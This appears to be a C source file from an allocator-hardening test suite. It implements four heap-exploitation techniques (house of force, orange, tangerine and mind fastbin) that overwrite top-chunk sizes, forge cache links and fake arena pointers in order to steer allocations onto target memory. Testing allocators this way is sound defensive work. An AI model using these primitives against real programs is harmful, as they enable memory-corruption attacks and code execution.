/* What belongs to no block: the top chunk, from which fresh ones are cut, and the arena. */
#include "attack.h"

enum { PAGE = 4096 };

/* A top without end reaches everything: one request moves it, the next is served there. */
static void house_of_force(void) {
    _Alignas(16) static word target[64];
    forbid(target, sizeof target);
    char *last = take(1272);
    if (last == NULL)
        return;
    word *size = behind(last);
    *size = ~(word)0;
    word distance = (word)target - (word)(size + 1);
    take(distance - sizeof(word));
    take(256);
}

/* A top cut short is given up when it does not suffice: a free chunk that nobody freed, whose
 * links lie behind the last block. */
static void house_of_orange(void) {
    _Alignas(16) static word target[4];
    char *last = take(1272);
    if (last == NULL)
        return;
    word *size = behind(last);
    *size = (*size & (PAGE - 1)) | PREV_IN_USE;
    take((size_t)8 * PAGE);
    watch(&target[2]);
    size[2] = (word)target;
    word top = *size & ~(word)15;
    take(top < 64 || top >= PAGE ? 1272 : top - 8);
}

/* The same with a top so short that the cache takes it: twice, for its counts are believed. */
static word *give_top_up(size_t left) {
    char *probe = take(24);
    if (probe == NULL)
        return NULL;
    size_t rest = (*behind(probe) - left) & (PAGE - 16);
    char *last = take(rest < 32 ? rest + PAGE - 8 : rest - 8);
    if (last == NULL)
        return NULL;
    word *size = behind(last);
    *size = left | PREV_IN_USE;
    take((size_t)16 * PAGE);
    return size;
}

static void house_of_tangerine(void) {
    _Alignas(16) static word target[64];
    enum { LEFT = 336, FENCE = 32 };
    forbid(target, sizeof target);
    word *first = give_top_up(LEFT);
    word *second = give_top_up(LEFT);
    if (first == NULL || second == NULL)
        return;
    second[1] = link_at(&second[1], target);
    take(LEFT - FENCE - sizeof(word));
    take(LEFT - FENCE - sizeof(word));
}

/* A chunk that says it is of another arena: which one, it says at the last multiple of 64 MiB
 * below it, and that lies in blocks of the program's if it only takes enough. Where blocks lie
 * alone on pages of their own, none ever does. */
static void house_of_mind_fastbin(void) {
    enum { SIZE = 126 * 1024, HEAP_MAX_BYTES = 64 << 20, SYSTEM_MEM = 273, FASTBINS = 2 };
    enum { ENOUGH = 2 * HEAP_MAX_BYTES / SIZE };
    _Alignas(16) static word arena[512];
    arena[SYSTEM_MEM] = HEAP_MAX_BYTES;
    struct filler filler = filler_take(88);
    word multiple = 0;
    for (int i = 0; i < ENOUGH && multiple == 0; i++) {
        char *block = take(SIZE);
        word candidate = ((word)block + SIZE) & ~((word)HEAP_MAX_BYTES - 1);
        if (candidate >= (word)block && candidate + 16 <= (word)block + SIZE)
            multiple = candidate;
    }
    char *before = take(88);
    void *victim = take(88);
    take(24);
    if (before == NULL || victim == NULL)
        return;
    if (multiple != 0)
        *(word *)multiple = (word)arena;
    *behind(before) ^= OF_OTHER_ARENA;
    for (size_t i = 0; i < 10; i++)
        watch(&arena[FASTBINS + i]);
    filler_give(&filler);
    give(victim);
}

const struct attack attacks_top[] = {
    {"house_of_force", house_of_force},
    {"house_of_orange", house_of_orange},
    {"house_of_tangerine", house_of_tangerine},
    {"house_of_mind_fastbin", house_of_mind_fastbin},
    {NULL, NULL},
};
